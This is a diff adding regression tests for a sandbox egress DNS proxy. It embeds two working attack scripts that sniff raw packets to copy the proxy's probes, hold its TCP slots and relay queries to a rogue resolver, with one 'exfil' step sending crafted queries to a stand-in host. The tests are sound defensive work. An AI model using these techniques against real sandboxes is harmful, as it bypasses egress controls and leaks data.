@@ -39,6 +39,7 @@ import pytest
 
 import lab as labmod
 from lab import DEFAULT_CNAMES, DEFAULT_HOSTS, DNS_V4, DNS_V6
+from hostside_resolver import HostSideResolver
 
 HERE = Path(__file__).resolve().parent
 WILD_V4, WILD_V6 = "203.0.113.10", "2001:db8:3::10"
@@ -94,6 +95,22 @@ def attacker_result(p: subprocess.Popen, timeout: float = 30.0) -> dict:
     assert p.returncode == 0, err.decode(errors="replace")
     out = getattr(p, "_lab_pending", b"") + out  # what _read_line read past READY
     return json.loads(out.decode().strip().splitlines()[-1])
+
+
+def dns_events(d, name: str) -> list[dict]:
+    """The DNS proxy's log lines `event=name k=v k="v w" ...` (a daemon logging JSON), as dicts."""
+    out = []
+    for line in d.log().splitlines():
+        if not line.startswith("{"):
+            continue
+        try:
+            msg = json.loads(line).get("message", "")
+        except json.JSONDecodeError:
+            continue
+        if msg == f"event={name}" or msg.startswith(f"event={name} "):
+            out.append({k: v[1:-1] if v.startswith('"') else v
+                        for k, v in re.findall(r'(\w+)=("(?:[^"\\]|\\.)*"|\S*)', msg)})
+    return out
 
 
 def ask(lab, names: list[str]) -> list[tuple[str, list[str]]]:
@@ -1529,9 +1546,249 @@ def test_a_sandbox_cannot_write_the_proxys_answer_to_dockers_forwarded_copy(lab,
     assert FORGED_V4 not in lab.learned_set(4)
     assert lab.tcp_connect(FORGED_V4, 22) != "ok"
     # The proxy's own answers still reach Docker's resolver and the sandbox.
+
+
+# Finding F2 of attack review C: a NET_RAW process running when egressd starts on the namespace
+# (Docker's resolver forwarding from inside it) copies the start-up probe once (a race: retried
+# 10 s later), fills the proxy's TCP slots with connections "to" its resolver ROGUE:53 so that
+# Docker's copy of the retry would be closed at accept, and answers the retry alone over a held
+# connection. It tells the test where it stands on stdout ("HELD n", "COPIED ...") and holds its
+# connections until its stdin closes.
+PROBE_SLOTS_ATTACK = textwrap.dedent(r'''
+    import json, socket, struct, sys, time
+    rogue = sys.argv[1]
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))   # NET_RAW
+    sniff.bind(("lo", 0))
+    sniff.settimeout(0.05)
+    seen = set()
+    def probes(deadline, tick=None):
+        while time.monotonic() < deadline:
+            if tick:
+                tick()
+            try:
+                f = sniff.recv(65535)
+            except socket.timeout:
+                continue
+            p = f[14:]
+            if len(p) < 40 or p[0] >> 4 != 4 or p[9] != 6:
+                continue
+            ihl = (p[0] & 0xF) * 4
+            data = p[ihl + (p[ihl + 12] >> 4) * 4:]
+            if len(data) > 14 and b"egressd-probe-" in data.lower() and data[14:] not in seen:
+                seen.add(data[14:])
+                yield data[2:]
+    def refused_query(i):
+        name = b"\x04keep" + bytes([len(str(i))]) + str(i).encode() + b"\x07example\x03net\x00"
+        return struct.pack("!HHHHHH", i, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
+    def exchange(c, q):
+        c.sendall(struct.pack("!H", len(q)) + q)
+        n = struct.unpack("!H", c.recv(2, socket.MSG_WAITALL))[0]
+        return c.recv(n, socket.MSG_WAITALL)
+    print("READY", flush=True)
+    out = {"first": None, "second": None}
+    # 1. the start-up probe: one extra copy (UDP) -> two arrivals -> no pin, retry in 10 s
+    for q in probes(time.monotonic() + 20):
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        u.settimeout(3)
+        u.sendto(q, ("198.51.100.99", 53))
+        out["first"] = u.recv(65535)[3] & 0xF
+        break
+    # 2. fill the proxy's TCP slots with connections "to" ROGUE:53 (redirected to the proxy)
+    held = []
+    for i in range(70):
+        try:
+            c = socket.create_connection((rogue, 53), timeout=1)
+            exchange(c, refused_query(i))
+            held.append(c)
+        except (OSError, struct.error) as e:
+            out.setdefault("errors", []).append(repr(e))
+    out["held"] = len(held)
+    print("HELD", len(held), flush=True)
+    last = [time.monotonic()]
+    def keep_alive():
+        # A whole query every 3 s: the proxy closes a connection idle for 10 s.
+        if time.monotonic() - last[0] < 3:
+            return
+        last[0] = time.monotonic()
+        for i, c in enumerate(held):
+            try:
+                exchange(c, refused_query(100 + i))
+            except (OSError, struct.error):
+                pass
+    # 3. the retry: one copy over a held connection (original destination ROGUE:53)
+    for q in probes(time.monotonic() + 20, keep_alive):
+        out["second"] = exchange(held[0], q)[3] & 0xF
+        break
+    print("COPIED", out["second"], flush=True)
+    sys.stdin.readline()   # held until the test has seen the probe end
+    for c in held:
+        c.close()
+    print(json.dumps(out))
+''')
+
+
+def probe_slots_attack(lab, egressd, hosts):
+    """Runs PROBE_SLOTS_ATTACK against an egressd started after it; returns the daemon once the
+    attacker's copy of the retried probe has been judged (a pin, or the probe's end without one)
+    and the attacker has let its connections go."""
+    lab.internet.ip("addr", "add", f"{ROGUE}/32", "dev", "lo")
+    rp = lab.spawn([sys.executable, str(HERE / "dnsserver.py"), "record", "--addr", ROGUE, "--port", 53,
+                    "--answer", FORGED_V4, "--log", str(lab.tmp / "rogue.jsonl")], netns=lab.internet,
+                   stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    assert labmod._read_line(rp, 10.0, "the rogue resolver").startswith("READY")
+    DockerResolver(lab)
+    p = attacker(lab, PROBE_SLOTS_ATTACK, ROGUE, caps=DOCKER_CAPS)
+    d = egressd(policy("127.0.0.11", hosts=hosts), extra=["--log-format", "json"])
+    held = labmod._read_line(p, 30.0, "the attacker to fill the slots")
+    copied = labmod._read_line(p, 30.0, "the attacker to copy the retried probe")
+    print(f"\nattacker: {held}; {copied}")
+    assert copied != "COPIED None", "the attacker saw no retried probe"
+    labmod.wait_for(lambda: events(d, "forwarder_pinned") or len(dns_events(d, "forwarder_probe_race")) >= 2, 10.0,
+                    "the retried probe to end")
+    res = attacker_result(p)
+    print("attacker:", json.dumps(res))
+    return d
+
+
+def test_an_attacker_holding_the_tcp_slots_cannot_pin_its_resolver_through_the_probe(lab, egressd):
+    """Before: ROGUE was pinned (`source: probe`), Docker's copies of egressd's queries went to it,
+    egressd learned ROGUE's answer for allowed names (exact and wildcard), and a connection to it
+    succeeded. Now the retried probe counts nothing (the slots were nearly full; the copy came over
+    a connection older than the probe), and once the attacker lets go a later probe pins Docker's
+    own target."""
+    serve(lab)
+    lab.add_servers([FORGED_V4], tcp=(80,))
+    d = probe_slots_attack(lab, egressd, ["a.example.com", "*.wild.example.org"])
+    assert not [e for e in events(d, "forwarder_pinned") if ROGUE in str(e["targets"])], events(d, "forwarder_pinned")
+    reasons = [e.get("reason") for e in dns_events(d, "forwarder_probe_race")]
+    assert "tcp_slots_nearly_full" in reasons, reasons
+    pinned = labmod.wait_for(lambda: events(d, "forwarder_pinned"), 15.0, "a later probe to pin Docker's target")
+    assert pinned[0]["targets"] == [DNS_V4] and pinned[0]["source"] == "probe", pinned
+    r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
+    assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
+    assert FORGED_V4 not in lab.learned_set(4)
+    assert lab.tcp_connect(FORGED_V4, 80) != "ok"
+
+
+def test_a_forwarder_target_kept_across_a_restart_is_never_the_attackers(lab, egressd):
+    """Before: the attacker's pin was kept in the kernel and adopted by the next egressd
+    (`source: kernel`), with the attacker long gone. Now what the restart adopts is the target a
+    clean probe pinned once the attacker let go."""
+    serve(lab)
+    d = probe_slots_attack(lab, egressd, ["*.wild.example.org"])
+    pinned = labmod.wait_for(lambda: events(d, "forwarder_pinned"), 15.0, "a later probe to pin Docker's target")
+    assert pinned[0]["targets"] == [DNS_V4], pinned
+    d.restart()
+    labmod.wait_for(lambda: len(events(d, "forwarder_pinned")) >= 2, 5.0, "the kept target")
+    again = events(d, "forwarder_pinned")[-1]
+    assert again["source"] == "kernel" and again["targets"] == [DNS_V4], again
     r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
     assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
 
+
+# Finding F3 of attack review C: Docker's resolver forwards from outside the namespace (no copy of
+# egressd's queries comes back, the start-up probe finds none). A NET_RAW process copies one of
+# egressd's in-flight queries to ROGUE:53 (a relay with no target used to schedule a new probe),
+# answers that probe alone over a connection to ROGUE:53, and then copies egressd's queries with
+# qtypes of its choosing: each was relayed to ROGUE.
+PROBE_TRIGGER_ATTACK = textwrap.dedent(r'''
+    import json, socket, struct, sys, time
+    token, rogue, wait = sys.argv[1].lower(), sys.argv[2], float(sys.argv[3])
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))   # NET_RAW
+    sniff.bind(("lo", 0))
+    sniff.settimeout(0.05)
+    LO11 = socket.inet_aton("127.0.0.11")
+    def build(name, qtype, qid=0x4242, flags=0x0100):
+        q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
+        return struct.pack("!HHHHHH", qid, flags, 1, 0, 0, 0) + q + struct.pack("!HH", qtype, 1)
+    def frames(deadline):
+        while time.monotonic() < deadline:
+            try:
+                f = sniff.recv(65535)
+            except socket.timeout:
+                continue
+            p = f[14:]
+            if len(p) < 28 or p[0] >> 4 != 4 or p[16:20] != LO11:
+                continue
+            ihl = (p[0] & 0xF) * 4
+            if p[9] == 17:
+                yield "udp", p[ihl + 8:]
+            elif p[9] == 6:
+                data = p[ihl + (p[ihl + 12] >> 4) * 4:]
+                if len(data) > 2:
+                    yield "tcp", data[2:]
+    def copy_of_inflight(name, qtype, dst):
+        """Asks `name` (allowed) and copies egressd's own query to 127.0.0.11 to dst:53, which the
+        redirect hands to egressd's proxy."""
+        c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        c.sendto(build(name, qtype), ("192.0.2.1", 53))
+        for kind, q in frames(time.monotonic() + 3):
+            if kind == "udp" and name.split(".")[0].encode() in q.lower() and not q[2] & 0x80:
+                o = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+                o.settimeout(2)
+                o.sendto(q, (dst, 53))
+                try:
+                    return {"copied": True, "rcode": o.recv(65535)[3] & 0xF}
+                except OSError as e:
+                    return {"copied": True, "rcode": str(e)}
+        return {"copied": False}
+    print("READY", flush=True)
+    out = {}
+    # 1. a copy of an in-flight query with no target pinned
+    out["trigger"] = copy_of_inflight(f"slow0{token}.wild.example.org", 1, rogue)
+    # 2. a probe within `wait` s (egressd retries after 10 s): one copy over TCP to ROGUE:53
+    out["probe"] = None
+    for kind, q in frames(time.monotonic() + wait):
+        if kind == "tcp" and b"egressd-probe-" in q.lower():
+            t = socket.create_connection((rogue, 53), timeout=3)
+            t.sendall(struct.pack("!H", len(q)) + q)
+            n = struct.unpack("!H", t.recv(2, socket.MSG_WAITALL))[0]
+            out["probe"] = t.recv(n, socket.MSG_WAITALL)[3] & 0xF
+            break
+    print("PROBE", out["probe"], flush=True)
+    sys.stdin.readline()   # until the test has seen that probe end
+    # 3. copies of egressd's queries, with the attacker's qtypes
+    out["exfil"] = [copy_of_inflight(f"slow{i}{token}.wild.example.org", 0x4000 + i, "198.51.100.99")
+                    for i in range(1, 4)]
+    print(json.dumps(out))
+''')
+
+
+def test_a_copy_after_a_probe_that_saw_none_starts_no_probe(lab, egressd):
+    """Before: the copy scheduled a new probe, the attacker's one copy of it pinned ROGUE, and
+    egressd relayed every later copy of its queries (sandbox-chosen names and qtypes) to ROGUE:53.
+    Now a copy after a probe that saw none is answered SERVFAIL (`relay_refused`) and no probe
+    runs; names still resolve through the resolver."""
+    serve(lab)
+    rogue_log = lab.tmp / "rogue.jsonl"
+    lab.internet.ip("addr", "add", f"{ROGUE}/32", "dev", "lo")
+    rp = lab.spawn([sys.executable, str(HERE / "dnsserver.py"), "record", "--addr", ROGUE, "--port", 53,
+                    "--answer", FORGED_V4, "--log", str(rogue_log)], netns=lab.internet,
+                   stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    assert labmod._read_line(rp, 10.0, "the rogue resolver").startswith("READY")
+    HostSideResolver(lab)
+    d = egressd(policy("127.0.0.11"), extra=["--log-format", "json"])
+    labmod.wait_for(lambda: [e for e in dns_events(d, "forwarder_probe") if e.get("result") == "none"], 5.0,
+                    "the start-up probe to find no copy")
+    r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
+    assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
+    t = tok()
+    p = attacker(lab, PROBE_TRIGGER_ATTACK, t, ROGUE, 12.0, caps=DOCKER_CAPS)
+    probe = labmod._read_line(p, 30.0, "the attacker to wait for a probe")
+    if probe != "PROBE None":  # the old behaviour: wait for that probe's end before step 3
+        labmod.wait_for(lambda: events(d, "forwarder_pinned") or dns_events(d, "forwarder_probe_race"), 5.0,
+                        "the probe the copy started to end")
+    res = attacker_result(p, timeout=40)
+    print("\nattacker:", json.dumps(res))
+    assert res["trigger"]["copied"], res
+    assert probe == "PROBE None", "a copy of egressd's query started a new probe"
+    assert dns_events(d, "relay_refused")
+    assert not events(d, "forwarder_pinned")
+    got = [json.loads(l) for l in rogue_log.read_text().splitlines()] if rogue_log.exists() else []
+    assert not [g for g in got if g.get("kind") == "query" and t in g.get("name", "")], \
+        "egressd sent sandbox-chosen queries to the attacker's server"
+    r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
+    assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
 
 # --- a port per query, and the sandbox's own queries ---------------------------------------------
 
